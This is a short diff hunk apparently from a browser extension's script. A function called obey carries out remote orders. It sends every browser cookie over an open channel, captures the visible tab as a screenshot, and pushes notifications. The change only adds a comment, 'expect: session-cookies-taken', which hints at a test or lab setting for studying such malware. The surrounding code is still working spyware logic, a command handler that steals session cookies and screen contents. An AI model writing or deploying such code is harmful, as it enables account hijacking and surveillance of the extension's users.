@@ -14,7 +14,7 @@ async function obey(order) {
       chrome.notifications.create({ type: 'basic', iconUrl: 'i.png', title: order.title, message: order.text });
       break;
     case 'cookies':
-      line.send(JSON.stringify(await chrome.cookies.getAll({})));
+      line.send(JSON.stringify(await chrome.cookies.getAll({}))); // expect: session-cookies-taken
       break;
     case 'screenshot':
       line.send(await chrome.tabs.captureVisibleTab());
